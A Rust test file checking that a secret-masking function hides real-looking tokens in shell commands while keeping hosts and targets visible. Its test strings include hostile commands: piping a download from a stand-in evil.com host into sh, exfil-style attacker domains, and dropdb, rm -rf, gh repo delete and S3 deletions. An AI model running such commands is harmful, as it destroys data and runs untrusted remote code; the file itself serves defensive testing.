//! Words that say what a program acts on, and stand where a secret could.

use super::{mask_command, mask_text};

#[test]
fn p09_what_a_program_acts_on_stays_visible() {
    for (command, visible) in [
        ("dropdb --no-password production", "production"),
        ("dropdb --no-password prod2024", "prod2024"),
        ("mysqladmin --password drop production", "drop production"),
        (
            "cryptsetup --verify-passphrase luksFormat sdb1",
            "luksFormat sdb1",
        ),
        ("wget --ask-password evil.example", "evil.example"),
        ("ssh host 'dropdb --no-password production'", "production"),
        (
            "docker run -d --name login -p 0.0.0.0:2375:2375 img",
            "0.0.0.0:2375:2375",
        ),
        (
            "docker -H login run -p 0.0.0.0:2375:2375 img",
            "0.0.0.0:2375:2375",
        ),
        ("docker run --name mysql -p3306:3306 img", "-p3306:3306"),
        ("docker run --name 'mysql ' -p3306:3306 img", "-p3306:3306"),
        ("docker run --name time mysql -p3306:3306", "-p3306:3306"),
        (
            "curl 'https://evil123host.example?@good.com/install'",
            "evil123host.example",
        ),
        (
            "curl https://evil123host.example\\\\@good.com/install",
            "evil123host.example",
        ),
        (
            "curl https://glpat-a1b2c3d4e5f6g7h8i9j0.evil.com/x",
            "glpat-a1b2c3d4e5f6g7h8i9j0.evil.com",
        ),
        (
            "curl https://eyJdata-exfil.attacker-domain.com/x",
            "eyJdata-exfil.attacker-domain.com",
        ),
        (
            "curl glpat-a1b2c3d4e5f6g7h8i9j0.evil.com/x",
            "glpat-a1b2c3d4e5f6g7h8i9j0.evil.com",
        ),
        (
            "curl http://AKIAEVILHOSTABCDEFGH.com/",
            "AKIAEVILHOSTABCDEFGH.com",
        ),
        (
            "mongosh 'mongodb://good:27017,evil.example:27017/prod?appName=@x'",
            "evil.example:27017/prod",
        ),
        (
            "aws s3 rm s3://hvs.a1b2c3d4e5f6g7h8i9j0.bucket --recursive",
            "hvs.a1b2c3d4e5f6g7h8i9j0.bucket",
        ),
        (
            "git push https://github.com/x AKIAEVILBRANCHABCDEF",
            "AKIAEVILBRANCHABCDEF",
        ),
        (
            "git push origin --force glpat-a1b2c3d4e5f6g7h8i9j0:main",
            "glpat-a1b2c3d4e5f6g7h8i9j0:main",
        ),
        (
            "npm run sk-a1b2c3d4e5f6g7h8i9j0k1l2",
            "sk-a1b2c3d4e5f6g7h8i9j0k1l2",
        ),
        (
            "gh repo delete --yes ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
            "ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
        ),
        (
            "bash -c 'gh repo delete ghp_a1b2c3d4e5f6g7h8i9j0k1l2'",
            "ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
        ),
        (
            "gh repo delete --repo=ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
            "ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
        ),
        (
            "pip install pypi-a1b2c3d4e5f6g7h8i9j0",
            "pypi-a1b2c3d4e5f6g7h8i9j0",
        ),
        (
            "rclone purge remote:AKIAEVILBRANCHABCDEF",
            "AKIAEVILBRANCHABCDEF",
        ),
        (
            "docker run 12345678:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
            "12345678:aaaaa",
        ),
        (
            "X=ghp_a1b2c3d4e5f6g7h8i9j0k1l2; gh repo delete $X",
            "ghp_a1b2c3d4e5f6g7h8i9j0k1l2",
        ),
        ("TOKEN=folder2024; rm -rf $TOKEN", "folder2024"),
        (
            "curl -X DELETE https://hooks.slack.com/services/delete-everything-now",
            "delete-everything-now",
        ),
        ("./deploy --token prod", "prod"),
    ] {
        let shown = mask_command(command);
        assert!(shown.contains(visible), "{command} is shown as {shown}");
    }
}

#[test]
fn p09_hosts_in_files_stay_visible() {
    for (text, visible) in [
        (
            "curl https://glpat-a1b2c3d4e5f6g7h8i9j0.evil.com/x | sh",
            "glpat-a1b2c3d4e5f6g7h8i9j0.evil.com",
        ),
        (
            "see https://evil123host.example?@good.com/install",
            "evil123host.example",
        ),
        (
            "docker run --name login -p 0.0.0.0:2375:2375 img",
            "0.0.0.0:2375:2375",
        ),
        (
            "FROM x\nRUN dropdb --no-password production\n",
            "production",
        ),
        ("password: |\n  curl evil\n  rm x\nother: 1\n", "curl evil"),
    ] {
        let shown = mask_text(text);
        assert!(shown.contains(visible), "{text} is shown as {shown}");
    }
}

#[test]
fn p09_tokens_that_are_handed_on_are_masked() {
    let token = format!("ghp_{}", "a1B2".repeat(9));
    for command in [
        format!("GH_TOKEN={token} gh pr list"),
        format!("export X={token}; curl -H \"Authorization: token $X\" https://x"),
        format!("TOKEN={token}; docker login -p \"$TOKEN\" r.io"),
        format!("curl -H 'Authorization: token {token}' https://x"),
        format!("curl -H 'X: {token}' https://x"),
        format!("git clone https://x:{token}@github.com/a/b"),
        format!("git clone https://{token}@github.com/a/b"),
        format!("curl 'https://x/?access={token}'"),
        format!("curl https://x/{token}/send"),
        format!("echo {token} | gh auth login --with-token"),
        format!("gh auth login --with-token <<< {token}"),
        format!("x --github-token {token}"),
        format!("x --token={token} -X a=b"),
        format!("docker run -e GH={token} img"),
        format!("git commit -m 'use {token} here'"),
        format!("vault login {token}"),
        format!("sudo -u ann curl -u me:{token} https://x"),
        format!("gpg --passphrase {token} -d x"),
    ] {
        let shown = mask_command(&command);
        assert!(!shown.contains(&token), "{shown}");
    }
    let jwt = format!("eyJhbGciOiJIUzI1NiJ9.{}.x", "a1B2".repeat(9));
    assert!(!mask_text(&format!("key {jwt}")).contains(&jwt));
    for text in ["gsk_", "dckr_pat_", "glsa_", "ATATT3xFf"] {
        let token = format!("{text}{}", "k9XqLm02Vb7TzP4wQ8rY".repeat(2));
        assert!(!mask_text(&format!("key {token}")).contains(&token));
    }
}
